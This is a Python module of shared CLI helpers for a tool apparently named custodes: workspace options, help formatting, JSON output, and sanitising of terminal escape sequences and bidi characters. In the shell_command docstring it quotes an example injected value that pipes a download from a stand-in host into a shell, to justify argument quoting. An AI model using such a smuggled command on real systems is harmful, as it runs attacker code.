"""Shared pieces of the command line: workspace and format options, output, errors.

Every capability keeps its commands in its own ``commands.py`` built from these, and
``cli.py`` only lists them, so the CLI stays a thin layer over the library.

Everything a command prints goes through :func:`echo` (or :func:`note`, :func:`emit_json`),
because much of it is text an attacker chose: a token's ``sub`` or ``kid``, a route, a user
agent. Printed raw, an escape sequence in it could retitle the terminal, rewrite what is on the
screen or, on some terminals, answer back as if typed. :func:`terminal_safe` defuses them.
"""

from __future__ import annotations

import contextlib
import datetime as dt
import functools
import json
import os
import re
import shlex
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import click
import click._textwrap

from custodes.timefmt import BadTime, iso, parse_iso  # commands may take iso from here; the library, from timefmt
from custodes.workspace import ENV_WORKSPACE, Workspace, resolve_workspace_path
from custodes.errors import CustodesError

WORKSPACE_HELP = "workspace directory (default: $CUSTODES_WORKSPACE, else ./custodes-data)"


def workspace_option(fn: Callable | None = None, *, create: bool = False) -> Callable:
    """``--workspace DIR`` accepted after the command name too; passes ``workspace: Workspace``,
    its custodes.yaml checked. Only commands that put data in a workspace (``create=True``:
    ingest, demo, watch, guard serve) create a missing one; every other command refuses it, so
    a mistyped path fails instead of checking an empty workspace and saying OK."""

    def decorate(fn: Callable) -> Callable:
        @click.option("--workspace", "workspace_dir", default=None, metavar="DIR", help=WORKSPACE_HELP)
        @functools.wraps(fn)
        def wrapper(*args, workspace_dir: str | None = None, **kwargs):
            ctx = click.get_current_context()
            given = workspace_dir or (ctx.find_root().params.get("workspace_dir"))
            return fn(*args, workspace=open_workspace(given, create=create), **kwargs)

        return wrapper

    return decorate(fn) if fn is not None else decorate


def open_workspace(given: str | None, create: bool = False, check: bool = True) -> Workspace:
    """The workspace a command names (``--workspace``, else the environment, else the default),
    its configuration checked (unless ``check`` is false); a missing one is created only with
    ``create``."""
    root = resolve_workspace_path(given)
    if not create and not root.exists():
        where = "--workspace" if given else f"${ENV_WORKSPACE}" if os.environ.get(ENV_WORKSPACE) else "the default"
        raise CustodesError(f"workspace {root} ({where}) does not exist: check the path; custodes ingest, "
                            "demo, watch and guard serve create one")
    workspace = Workspace.open(given)  # an existing one is checked to be ours and made private
    if check:
        workspace.config()
    return workspace


# Help text ----------------------------------------------------------------------------------
class _WholeWords(click._textwrap.TextWrapper):
    """Click's wrapper, breaking lines at spaces only: a dataset name (``key_custody``), a path
    (``./custodes-data``) or a column (``source_column``) is never cut in two; a word longer than
    the line overflows it instead."""

    def __init__(self, *args, **kwargs):
        super().__init__(*args, **dict(kwargs, break_long_words=False, break_on_hyphens=False))


class HelpFormatter(click.HelpFormatter):
    """``--help`` wrapped at spaces only (:class:`_WholeWords`). click's ``wrap_text`` takes its
    wrapper from ``click._textwrap`` at each call and offers no switch for this, so the wrapper is
    swapped there while a help page is written (one thread: a command line)."""

    def write_usage(self, *args, **kwargs):
        with _whole_words():
            super().write_usage(*args, **kwargs)

    def write_text(self, *args, **kwargs):
        with _whole_words():
            super().write_text(*args, **kwargs)

    def write_dl(self, *args, **kwargs):
        with _whole_words():
            super().write_dl(*args, **kwargs)


@contextlib.contextmanager
def _whole_words():
    plain = click._textwrap.TextWrapper
    click._textwrap.TextWrapper = _WholeWords
    try:
        yield
    finally:
        click._textwrap.TextWrapper = plain


class Context(click.Context):
    formatter_class = HelpFormatter


def whole_word_help(command: click.Command) -> click.Command:
    """``command`` and every subcommand of it write their help with :class:`HelpFormatter`."""
    command.context_class = Context
    for sub in getattr(command, "commands", {}).values():
        whole_word_help(sub)
    return command


def dataset_argument(required: bool = True) -> Callable:
    """A DATASET argument: named DATASET in the usage line (the eight names in a brace list made
    the line wrap in the middle of one); the names are listed in the command's epilog."""
    from custodes import contract

    return click.argument("dataset", required=required, metavar="DATASET" if required else "[DATASET]",
                          type=click.Choice(contract.DATASET_NAMES))


def datasets_epilog() -> str:
    from custodes import contract

    return "DATASET is one of: " + ", ".join(contract.DATASET_NAMES) + "."


def format_option(*choices: str, default: str = "text") -> Callable:
    choices = choices or ("text", "json")
    return click.option(
        "--format", "fmt", type=click.Choice(choices), default=default, show_default=True,
        help="output format: text for people, json for scripts (stdout holds nothing else)",
    )


def _json_default(value: Any) -> Any:
    if isinstance(value, dt.datetime):
        return iso(value)
    if isinstance(value, dt.date):
        return value.isoformat()
    if isinstance(value, Path):
        return str(value)
    if isinstance(value, (set, frozenset, tuple)):
        return sorted(value)
    if hasattr(value, "item"):  # numpy scalars
        return value.item()
    raise TypeError(f"cannot encode {type(value).__name__} as JSON")


def dumps(obj: Any, indent: int | None = 2) -> str:
    return json.dumps(obj, default=_json_default, indent=indent, ensure_ascii=False)


# Terminal output ----------------------------------------------------------------------------
#: whole escape sequences first (so an OSC's text goes with it): OSC and the other string
#: sequences (DCS, SOS, PM, APC) up to their terminator (or the end of the line, so an unended
#: one cannot swallow what follows), CSI with its parameters, then any other ESC and the
#: character after it; each in its 7-bit and 8-bit (C1) spelling
_SEQUENCES = re.compile(
    r"(?:\x1b[\]PX^_]|[\x90\x98\x9d\x9e\x9f])[^\x07\x1b\x9c\n]*(?:\x07|\x1b\\|\x9c)?"
    r"|(?:\x1b\[|\x9b)[\x30-\x3f]*[\x20-\x2f]*[\x40-\x7e]?"
    r"|\x1b[\x20-\x7e]?")
#: C0 controls but tab and newline, DEL, C1 controls, and the Unicode bidirectional overrides
#: and isolates, which can make `rm` look like `mr` (Trojan Source)
_CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")
_JSON_UNSAFE = re.compile(r"[\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


#: what stands where a sequence or a control character was: the text stays visibly different
#: from the same text without it (`k-2019` and `k-2019<ESC>...` are two kids, not one)
REPLACEMENT = "\ufffd"


def terminal_safe(text: str) -> str:
    """``text`` with every escape sequence and control character (but tab and newline) replaced
    by one U+FFFD, so nothing in it acts on a terminal."""
    return _CONTROLS.sub(REPLACEMENT, _SEQUENCES.sub(REPLACEMENT, text))


def echo(message: Any = "", err: bool = False, nl: bool = True) -> None:
    """Print for people: every line custodes prints goes through here (see the module docstring)."""
    click.echo(terminal_safe(str(message)), err=err, nl=nl)


def safe_dumps(obj: Any, indent: int | None = 2) -> str:
    """JSON text that no terminal acts on: json escapes C0 controls itself; DEL, C1 and the bidi
    controls are escaped here too (``\\u009b``). The same JSON value."""
    return _JSON_UNSAFE.sub(lambda m: f"\\u{ord(m.group()):04x}", dumps(obj, indent=indent))


def emit_json(obj: Any) -> None:
    """JSON on stdout (:func:`safe_dumps`)."""
    click.echo(safe_dumps(obj))


def note(message: str) -> None:
    """A message for people, on stderr, so stdout stays clean for --format json."""
    echo(message, err=True)


def shell_command(*argv: str) -> str:
    """A command line to show an operator, each word quoted for a POSIX shell: a ``kid`` such as
    ``x; curl evil.example/x|sh #`` stays one argument when the line is pasted."""
    return " ".join(shlex.quote(terminal_safe(str(word))) for word in argv)


def stderr_is_terminal() -> bool:
    return sys.stderr.isatty()


def parse_time_option(value: str | None, option: str) -> dt.datetime | None:
    """Parse --since/--until: RFC 3339 (zone required unless a bare date) or epoch seconds."""
    if value is None:
        return None
    text = value.strip()
    if text.lstrip("-").isdigit():
        try:
            return dt.datetime.fromtimestamp(int(text), tz=dt.timezone.utc)
        except (OverflowError, OSError, ValueError):
            raise click.BadParameter(f"{value!r} is out of range as epoch seconds", param_hint=option) from None
    try:
        return parse_iso(text, date_ok=True)
    except BadTime as e:
        raise click.BadParameter(f"{e}, nor epoch seconds", param_hint=option) from None


def given_workspace(ctx: click.Context, own: str | None, check: bool = True) -> Workspace:
    """The workspace of a subcommand: its own ``--workspace``, else the nearest enclosing
    command's (``custodes incidents --workspace W ack ID``), else the root's or the default."""
    node = ctx.parent
    while own is None and node is not None:
        own = node.params.get("workspace_dir")
        node = node.parent
    return open_workspace(own, check=check)


def subcommand_workspace_option(fn: Callable) -> Callable:
    """Like :func:`workspace_option`, for commands inside a group that has ``--workspace`` too."""

    @click.option("--workspace", "workspace_dir", default=None, metavar="DIR", help=WORKSPACE_HELP)
    @functools.wraps(fn)
    def wrapper(*args, workspace_dir: str | None = None, **kwargs):
        return fn(*args, workspace=given_workspace(click.get_current_context(), workspace_dir), **kwargs)

    return wrapper
